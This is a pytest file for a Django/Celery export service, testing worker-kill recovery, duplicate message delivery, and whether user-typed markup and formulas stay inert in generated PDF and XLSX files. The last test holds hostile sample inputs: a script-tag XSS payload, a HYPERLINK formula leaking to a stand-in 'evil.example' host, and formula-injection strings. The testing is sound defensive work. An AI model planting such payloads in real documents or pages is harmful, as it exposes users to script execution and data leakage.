"""Export jobs against a real Celery worker process and the real Redis broker.

- a worker SIGKILLed mid-render: the job is re-queued by the reclaim task and completed by another worker,
  or failed with a French reason once the attempt cap is reached — never left "running";
- once its heartbeat is older than ``STALE_AFTER`` the page shows it « Interrompu », and the next
  worker to start re-queues it by itself (``worker_ready``) and completes it;
- the same message delivered twice renders once (one file, one completion);
- markup and formulas typed into free-text fields stay inert in the PDF and in the XLSX
  (checked with pdftotext, openpyxl and LibreOffice headless).

"Mid-render" is made deterministic by the test-only ``slow_seconds`` parameter (a pause after each
progress step, honoured only with RESILIS_ENV=test and never settable from the UI).
"""

from __future__ import annotations

import csv
import hashlib
import re
import time
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from django_scopes import scopes_disabled

from apps.exports import services
from apps.exports.models import HEARTBEAT_SECONDS, STALE_AFTER, ExportJob
from apps.exports.tasks import export_run_task
from tests.exports.conftest import pdf_info, pdf_text, soffice_convert, wait_for
from tests.exports.factories import ExportJobFactory
from tests.factories import EstablishmentFactory, SiteFactory

pytestmark = [pytest.mark.worker, pytest.mark.django_db(transaction=True)]

STALE = timedelta(seconds=2)


def job_state(job_id) -> ExportJob:
    with scopes_disabled():
        return ExportJob.objects.get(pk=job_id)


def files_of(media_root: Path, org) -> list[str]:
    folder = media_root / "exports" / str(org.pk)
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def reclaim_until(predicate_key: str, queue: str, timeout: float = 60) -> dict[str, int]:
    """Run the beat task's service until it acts (the killed worker's heartbeat must first go stale)."""
    return wait_for(lambda: (r := services.export_reclaim_stale(stale_after=STALE, queue=queue))[predicate_key] and r,
                    timeout=timeout, interval=1, message=f"reclaim {predicate_key}")


def test_worker_killed_mid_render_the_job_is_reclaimed_and_completed(org, media_root, worker_factory,
                                                                     private_queue) -> None:
    first = worker_factory(private_queue)
    job = services.export_job_create(organization=org, actor=None, kind=ExportJob.Kind.DOSSIER_PDF,
                                     parameters={"slow_seconds": 3}, queue=private_queue)
    wait_for(lambda: job_state(job.pk).status == ExportJob.Status.RUNNING, timeout=90,
             message=lambda: f"first start: {job_state(job.pk).__dict__}\n{first.output()}")
    first.kill()
    time.sleep(1)
    stuck = job_state(job.pk)
    assert stuck.status == ExportJob.Status.RUNNING and stuck.attempts == 1, stuck.__dict__  # the dead worker holds it

    worker_factory(private_queue)  # a new worker alone does not see the unacknowledged message…
    result = reclaim_until("requeued", private_queue)  # …the reclaim task puts the job back in the queue
    assert result == {"requeued": 1, "failed": 0}

    done = wait_for(lambda: (j := job_state(job.pk)).status in (ExportJob.Status.DONE, ExportJob.Status.FAILED) and j,
                    timeout=600, message=lambda: f"{job_state(job.pk).__dict__}\n{worker_factory.outputs()}")
    assert done.status == ExportJob.Status.DONE, done.error
    assert done.attempts == 2, worker_factory.outputs()
    path = media_root / done.file_path
    assert files_of(media_root, org) == [f"{job.pk}.pdf"]  # the killed attempt's partial file is gone
    assert hashlib.sha256(path.read_bytes()).hexdigest() == done.sha256
    assert int(pdf_info(path)["Pages"]) >= 3


def test_a_killed_worker_s_job_is_shown_interrupted_then_resumed_by_the_next_worker_to_start(
        org, admin_user, client_for, media_root, worker_factory, private_queue) -> None:
    # The rule the page relies on: several heartbeats fit in STALE_AFTER, and it is shown within a minute.
    assert HEARTBEAT_SECONDS * 3 < STALE_AFTER.total_seconds() < 60
    client = client_for(admin_user)
    first = worker_factory(private_queue)
    job = services.export_job_create(organization=org, actor=None, kind=ExportJob.Kind.DOSSIER_PDF,
                                     parameters={"slow_seconds": 3}, queue=private_queue)
    wait_for(lambda: (j := job_state(job.pk)).status == ExportJob.Status.RUNNING and j.progress > 0, timeout=90,
             message=lambda: f"first start: {job_state(job.pk).__dict__}\n{first.output()}")
    first.kill()
    status_url = reverse("exports:status", kwargs={"org_slug": org.slug, "pk": job.pk})
    page = client.get(status_url).content.decode()
    assert 'data-status="running"' in page and "Interrompu" not in page  # its last heartbeat is recent

    # Time passes without a sign of life (set in the database rather than waited for).
    with scopes_disabled():
        ExportJob.objects.filter(pk=job.pk).update(heartbeat_at=timezone.now() - STALE_AFTER - timedelta(seconds=1))
    page = client.get(status_url).content.decode()
    assert 'data-status="interrupted"' in page and ">Interrompu</span>" in page
    assert "L'export va être relancé automatiquement." in page
    assert "hx-trigger" in page  # still polled: the page follows the restart
    listing = client.get(reverse("exports:list", kwargs={"org_slug": org.slug})).content.decode()
    assert ">Interrompu</span>" in listing

    second = worker_factory(private_queue)  # nobody runs the beat task here: the starting worker re-queues it
    done = wait_for(lambda: (j := job_state(job.pk)).is_finished and j, timeout=600,
                    message=lambda: f"{job_state(job.pk).__dict__}\n{worker_factory.outputs()}")
    assert done.status == ExportJob.Status.DONE and done.attempts == 2, done.error
    assert "'requeued': 1" in second.output()
    assert files_of(media_root, org) == [f"{job.pk}.pdf"]
    page = client.get(status_url).content.decode()
    assert 'data-status="done"' in page and "Interrompu" not in page


def test_worker_killed_on_the_last_attempt_the_job_fails_with_a_reason(org, media_root, worker_factory,
                                                                         private_queue) -> None:
    worker = worker_factory(private_queue)
    job = ExportJobFactory(organization=org, kind=ExportJob.Kind.WORKBOOK_XLSX, language="fr",
                           attempts=services.MAX_ATTEMPTS - 1, parameters={"slow_seconds": 5})
    services.export_enqueue(job=job, queue=private_queue)
    wait_for(lambda: job_state(job.pk).status == ExportJob.Status.RUNNING, timeout=60, message="last start")
    worker.kill()
    assert reclaim_until("failed", private_queue) == {"requeued": 0, "failed": 1}
    failed = job_state(job.pk)
    assert failed.status == ExportJob.Status.FAILED and failed.attempts == services.MAX_ATTEMPTS
    assert failed.error.startswith("L'export a été interrompu plusieurs fois")
    assert failed.finished_at is not None and not failed.file_path
    assert not any(name.endswith(".xlsx") for name in files_of(media_root, org))


def test_the_same_message_delivered_twice_renders_once(org, media_root, worker_factory, private_queue) -> None:
    worker = worker_factory(private_queue, concurrency=2)
    job = ExportJobFactory(organization=org, kind=ExportJob.Kind.WORKBOOK_XLSX, parameters={"slow_seconds": 1})
    task_id = f"export-{job.pk}"
    for _ in range(2):  # two deliveries of one message (same task id), taken by two pool processes at once
        export_run_task.apply_async(args=[org.pk, str(job.pk)], queue=private_queue, task_id=task_id)

    pattern = re.compile(rf"Task apps\.exports\.tasks\.export_run_task\[{re.escape(task_id)}\] succeeded in [\d.]+s: (\w+)")
    outcomes = wait_for(lambda: len(found := pattern.findall(worker.output())) == 2 and found, timeout=180,
                        message="both deliveries handled")
    assert sorted(outcomes) == ["False", "True"]
    done = job_state(job.pk)
    assert done.status == ExportJob.Status.DONE and done.attempts == 1
    assert files_of(media_root, org) == [f"{job.pk}.xlsx"]
    with scopes_disabled():
        completions = ExportJob.pgh_event_model.objects.filter(pgh_obj_id=job.pk, status=ExportJob.Status.DONE)
        assert completions.count() == 1


def test_markup_and_formulas_typed_by_users_stay_inert(org, media_root, worker_factory, private_queue,
                                                       tmp_path) -> None:
    script = "<script>alert(1)</script>"
    hyperlink = '=HYPERLINK("http://evil.example/?leak=1","Cliquez ici")'
    org.name = script
    org.save()
    establishment = EstablishmentFactory(organization=org, name=hyperlink)
    SiteFactory(organization=org, establishment=establishment, name="=1+1", city="@SUM(1+1)")
    worker_factory(private_queue)
    jobs = [services.export_job_create(organization=org, actor=None, kind=kind, queue=private_queue)
            for kind in (ExportJob.Kind.DOSSIER_PDF, ExportJob.Kind.WORKBOOK_XLSX)]
    finished = [wait_for(lambda j=j: (s := job_state(j.pk)).is_finished and s, timeout=600, message="render")
                for j in jobs]
    assert [j.status for j in finished] == [ExportJob.Status.DONE, ExportJob.Status.DONE], [j.error for j in finished]
    pdf_path, xlsx_path = (media_root / j.file_path for j in finished)

    # PDF: the markup is printed as text, the formula as text.
    squeeze = lambda text: re.sub(r"\s+", "", text)  # noqa: E731 - table cells may wrap long values
    text = pdf_text(pdf_path)
    assert squeeze(script) in squeeze(text)
    assert squeeze(hyperlink) in squeeze(text)
    assert pdf_info(pdf_path)["Title"] == f"Dossier CaRE D2 — {script}"

    # XLSX reopened with openpyxl: string cells, no formula anywhere.
    wb = openpyxl.load_workbook(xlsx_path)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    for value in (hyperlink, "=1+1", "@SUM(1+1)"):
        assert by_value[value].data_type == "s" and by_value[value].quotePrefix
    assert by_value[script].data_type == "s"

    # LibreOffice computes nothing: the CSV of the « Entités » sheet holds the typed text, not "2" or a link.
    result = soffice_convert(xlsx_path, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                             tmp_path)
    assert result.returncode == 0, result.stderr
    entities_csv = next(tmp_path.glob("*Entit*.csv"))
    rows = list(csv.reader(entities_csv.open(encoding="utf-8")))
    site_row = next(r for r in rows if r and r[0] == hyperlink)
    assert site_row[4] == "=1+1" and site_row[6] == "@SUM(1+1)"
